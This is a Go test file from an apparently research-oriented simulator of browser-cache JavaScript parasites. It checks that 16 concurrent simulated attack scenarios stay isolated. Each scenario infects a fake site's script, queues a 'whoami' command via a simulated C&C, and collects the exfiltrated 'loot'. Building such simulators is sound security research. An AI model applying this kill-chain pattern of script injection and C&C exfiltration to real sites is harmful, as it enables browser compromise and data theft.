package core

import (
	"fmt"
	"testing"

	"masterparasite/internal/attacker"
	"masterparasite/internal/parasite"
	"masterparasite/internal/runner"
	"masterparasite/internal/script"
)

// TestScenariosAreSelfContained is the contract the scenario-fleet
// engine rests on: many scenarios, constructed and driven concurrently,
// never share mutable state. Each fleet member runs the full kill chain
// — eviction target setup, injection, exfiltration over its own C&C —
// and must see exactly its own loot; the race detector guards the
// "no sharing" half of the claim.
func TestScenariosAreSelfContained(t *testing.T) {
	const fleet = 16
	type outcome struct {
		infected bool
		loot     string
	}
	outcomes, err := runner.Map(runner.New(8), make([]struct{}, fleet), func(i int, _ struct{}) (outcome, error) {
		seed := runner.Seed(99, fmt.Sprintf("fleet-%d", i))
		s, err := NewScenario(Config{Seed: seed})
		if err != nil {
			return outcome{}, err
		}
		botID := fmt.Sprintf("bot-fleet-%d", i)
		s.AddPage("somesite.com", "/", `<html><body><script src="/my.js"></script></body></html>`,
			map[string]string{"Cache-Control": "no-store"})
		s.AddPage("somesite.com", "/my.js", "function site(){}",
			map[string]string{"Cache-Control": "max-age=600", "Content-Type": "application/javascript"})

		cfg := parasite.NewConfig("fl", botID, MasterHost)
		cfg.Modules["whoami"] = func(env script.Env, _ string, exfil parasite.Exfil) error {
			exfil("whoami", []byte(fmt.Sprintf("scenario-%d on %s", i, env.PageHost())))
			return nil
		}
		s.Registry.Add(cfg)
		s.Master.AddTarget(attacker.Target{
			Name: "somesite.com/my.js", Kind: attacker.KindJS,
			ParasitePayload: "fl", Original: []byte("function original(){}"),
		})
		s.CNC.QueueCommand(botID, []byte("whoami|"))
		page, err := s.Visit("somesite.com", "/")
		if err != nil {
			return outcome{}, err
		}
		var o outcome
		for _, sc := range page.Scripts {
			if script.Infected(sc.Content) {
				o.infected = true
			}
		}
		if loot, ok := s.CNC.Upload(botID, "whoami"); ok {
			o.loot = string(loot)
		}
		return o, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	for i, o := range outcomes {
		if !o.infected {
			t.Errorf("scenario %d: kill chain did not infect", i)
		}
		want := fmt.Sprintf("scenario-%d on somesite.com", i)
		if o.loot != want {
			t.Errorf("scenario %d: loot = %q, want %q — scenarios leaked state", i, o.loot, want)
		}
	}
}
